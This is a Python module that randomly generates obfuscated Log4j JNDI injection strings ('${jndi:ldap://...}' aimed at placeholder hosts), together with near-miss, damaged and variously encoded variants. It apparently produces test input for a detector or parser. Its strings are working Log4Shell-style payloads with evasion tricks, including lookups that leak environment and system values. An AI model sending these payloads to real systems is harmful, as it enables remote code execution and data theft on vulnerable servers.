"""Random payloads: what attackers write, and what is nearly that.

payload(seed, number) depends on its arguments alone. A payload is built outside in: a look-up of
`jndi` is spelt letter by letter, each letter plain or by a trick, tricks inside tricks; then it is
damaged, escaped, surrounded and repeated. Some are a soup of tokens instead.
"""

import base64
import random
import urllib.parse

PLAIN_NAMES = ["ldap://203.0.113.9:1389/a", "ldap://x.example/a", "rmi://x.example:1099/b"]
NAMES = PLAIN_NAMES * 4 + [
    "ldaps://x/", "dns://x.example/c", "iiop://h/a", "LDAP://x/a", "http://x/a", "ldap:x", "foo",
    "java:comp/env/x", "logging/context-name", "", ":", "a:b", "ldap://${env:USER}.x/a",
    "ldap://x/${hostName}", "ldap://x/${java:os}/${java:version}", "ldap://x/${sys:user.name:-u}",
    "ldap://x/{a", "ldap://x/a b\n", "ldap://x/\u00e4\U0001f600", "dns://${lower:X}.y/",
    "ldap://x/${date:yyyy}", "ldap://x/$", "ldap://x/$$", "ldap://x/${env:A:-${env:B}}", "hostName",
    "ldap://x/${ctx:a}${main:0}", "ldap://x/${event:Level}", "-ldap://x", "ldap://x/:-y"]
# Text whose upper or lower case has ASCII letters in it, or nearly. (No capital sigma: Java asks a
# word breaker whether it is a final one, and nothing here depends on that.)
ODD = ["\u0131", "\u017f", "\u212a", "\u0130", "\u00df", "\ufb01", "\ufb05", "\u0149", "\u1e9e",
       "\u0390", "\ud800", "\U00010400", "\u00b5", "\uff4a"]
PREFIXES = ("lower upper env sys date java ctx event main map sd marker bundle jvmrunargs log4j "
            "web docker k8s kubernetes spring jndi base64 foo").split()
KEYS = ["", "x", "hostName", "A", "Message", "version", "os", "path.separator", "file.separator",
        "line.separator", "yyyy", "'j'", "''", "'", "E", "jndi", "-", ":", "Level", "user.name",
        "j'n'd", "X", "XXXX", "b", ".", "MMM", "\u0131", "0"]
TOKENS = ["${", "}", "$", "{", ":-", ":\\-", ":", "-", "\\", "::-", "$${", "jndi", "jndi:", "j",
          "n", "d", "i", "ldap://x/a", "lower:", "upper:", "env:", "date:", "java:", "sys:", "'",
          " ", "a", "${jndi:", "${::-", "${lower:", "${env:x:-", "${a:-", "}}", "x", "\u0131",
          "${jndi:ldap://x/a}", "${date:'", "event:Message", "hostName", "\n"]
JUNK = ["", "", "", "", "a", " ", "x=", "$", "$$", "{", "}", "${", "${}", "${z}", "${a:-b}", "\\",
        "GET /?q=", "${::-}", "${::-ab}", "${lower:}", "$}", "${java:x}", "${java:version}",
        "${hostName}", "\U0001f600", "${a", "#{x}", "%{x}", "\ud83d", "${date:'", "${env:A}"]


class Maker:
    """One payload in the making."""

    def __init__(self, seed, number):
        self.r = random.Random(seed * 1_000_003 + number)
        self.left = self.r.choice((3, 8, 20, 60))  # tricks that may still be used

    def often(self, chance):
        return self.r.random() < chance

    def any_case(self, text):
        return "".join(self.r.choice((c.lower(), c.upper())) for c in text)

    def prefix(self, name):
        return self.any_case(name) if self.often(0.2) else name

    def colon(self):
        return self.r.choice((":", ":", ":", "${sys:path.separator}", "${date::}", "${::-:}",
                              "${lower::}", ":\\-", ": "))

    def inside(self, text):
        """The text, perhaps spelt by further tricks."""
        return self.spell(text) if self.left > 0 and self.often(0.4) else text

    def trick(self, text):
        """An expression whose value is the text; most of the time."""
        self.left -= 1
        kind = self.r.randrange(13)
        inside = self.inside(text)
        if kind == 0:
            return "${" + self.prefix("lower") + ":" + self.inside(self.any_case(text)) + "}"
        if kind == 1:
            return "${" + self.prefix("upper") + ":" + inside + "}"
        if kind == 2:
            return "${::-" + inside + "}"
        if kind == 3:
            name = "".join(self.r.choices(":ab.", k=self.r.randrange(5)))
            return "${" + name + ":-" + inside + "}"
        if kind == 4:
            name = self.prefix(self.r.choice(PREFIXES)) + ":" + self.r.choice(KEYS)
            return "${" + name + ":-" + inside + "}"
        if kind == 5:
            return "${" + self.prefix("date") + ":'" + text + "'}"
        if kind == 6:
            return "${date:" + text + "}"
        if kind == 7:
            return "${env:" + self.trick("x") + ":-" + inside + "}"
        if kind == 8:
            return "${upper:" + text.replace("i", "\u0131").replace("I", "\u0131") + "}"
        if kind == 9:
            return "${lower:${upper:" + inside + "}}"
        if kind == 10:
            return "${a:-" + "$" * self.r.randrange(4) + "${b:-" + inside + "}}"
        if kind == 11:
            return "${" + self.r.choice(("lower", "upper", "")) + "::-" + inside + "}"
        return "${::-" + text[:1] + "}" + self.inside(text[1:])

    def spell(self, text):
        out = []
        while text:
            n = self.r.choice((1, 1, 1, 2, len(text)))
            part, text = text[:n], text[n:]
            out.append(self.trick(part) if self.left > 0 and self.often(0.5) else part)
        return "".join(out)

    def open(self):
        kind = self.r.randrange(40)
        if kind == 0:
            return "${::-x$}{"
        if kind == 1:
            return "${::-$}{"
        if kind == 2:
            return "${lower:$}{"
        if kind == 3:
            return "$${"
        if kind == 4:
            return "$$${"
        return "${"

    def word(self):
        word = self.any_case("jndi") if self.often(0.2) else "jndi"
        if self.often(0.05):
            word = self.r.choice((" jndi", "jndi ", "jnd\u0131", "JND\u0130", "jndi\n", "jnd",
                                  "jndii", "\tjndi", "jndi\0", "jndi.", "\ufeffjndi"))
        return self.spell(word) if self.often(0.6) else word

    def jndi(self):
        name = self.r.choice(NAMES)
        if self.often(0.2):
            name = self.spell(name)
        default = self.r.choice(("", "", "", "", ":-", ":-x", ":-${jndi:y:z}", ":-$${jndi:y:z}"))
        return self.open() + self.word() + self.colon() + name + default + "}"

    def wrap(self, text):
        kind = self.r.randrange(14)
        if kind == 0:
            return "${lower:" + "$" * self.r.randrange(3) + text + "}"
        if kind == 1:
            name = self.r.choice(("a", "", ":", "env:x"))
            return "${" + name + ":-" + "$" * self.r.randrange(3) + text + "}"
        if kind == 2:
            return "${" + text + "}"
        if kind == 3:
            return "${%s:%s}" % (self.r.choice(PREFIXES), text)
        if kind == 4:
            return "${%s:%s:-%s}" % (self.r.choice(PREFIXES), self.r.choice(KEYS), text)
        if kind == 5:
            return "${java:version:-" + text + "}"
        if kind == 6:
            return "${" + self.r.choice(ODD) + "ar" + text
        return text

    def damage(self, text):
        """One token less, more, or changed."""
        at = self.r.randrange(len(text) + 1)
        kind = self.r.randrange(4)
        if kind == 0:
            return text[:at] + self.r.choice(TOKENS) + text[at:]
        if kind == 1:
            return text[:at] + text[at + self.r.randrange(1, 3):]
        if kind == 2:
            return text[:at] + self.r.choice(ODD) + text[at + 1:]
        return text[:at]

    def produce(self, text):
        """Any piece, of names and splitters too, as the default of an expression of its own."""
        begin = self.r.randrange(len(text) + 1)
        ends = []
        depth = 0
        at = begin
        while at < len(text) and depth >= 0:
            if text.startswith("${", at):
                depth += 1
                at += 2
            else:
                depth -= text[at] == "}"
                at += 1
            if depth == 0:
                ends.append(at)
        if not ends:
            return text
        end = self.r.choice(ends[:self.r.choice((4, 12, len(ends)))])
        name = self.r.choice(("", ":", "x", "env:x", "lower", "a:b:c"))
        return text[:begin] + "${" + name + ":-" + text[begin:end] + "}" + text[end:]

    def soup(self):
        return "".join(self.r.choice(TOKENS) for _ in range(self.r.randrange(1, 25)))

    def make(self):
        if self.often(0.15):
            return self.soup()
        text = self.jndi()
        for _ in range(self.r.choice((0, 0, 0, 1, 1, 2, 3))):
            text = self.wrap(text)
        for _ in range(self.r.choice((0, 0, 1, 2, 4))):
            text = self.produce(text)
        text = self.r.choice(JUNK) + text + self.r.choice(JUNK)
        while self.often(0.15):
            text += self.jndi() + self.r.choice(JUNK)
        while self.often(0.25):
            text = self.damage(text)
        return text


def payload(seed, number):
    """The payload with that number."""
    return Maker(seed, number).make()


# Encodings that leave no character of a text as it was, or only harmless ones.
WRAPPINGS = (
    lambda text: "".join("%%%02x" % byte for byte in text.encode()),
    urllib.parse.quote,
    lambda text: urllib.parse.quote(urllib.parse.quote(text)),
    lambda text: base64.b64encode(text.encode()).decode(),
    lambda text: "".join("\\u%04x" % ord(c) if c < "\U00010000" else c for c in text),
    lambda text: "".join("&#x%x;" % ord(c) for c in text),
    lambda text: "".join(c if c.isalnum() else "&#%d;" % ord(c) for c in text),
    lambda text: "".join("=%02X" % byte for byte in text.encode()),
)


def wrapped(text, number):
    """The text in one of the encodings; as it is when bytes cannot hold it."""
    if any("\ud800" <= c <= "\udfff" for c in text):
        return text
    return WRAPPINGS[number % len(WRAPPINGS)](text)
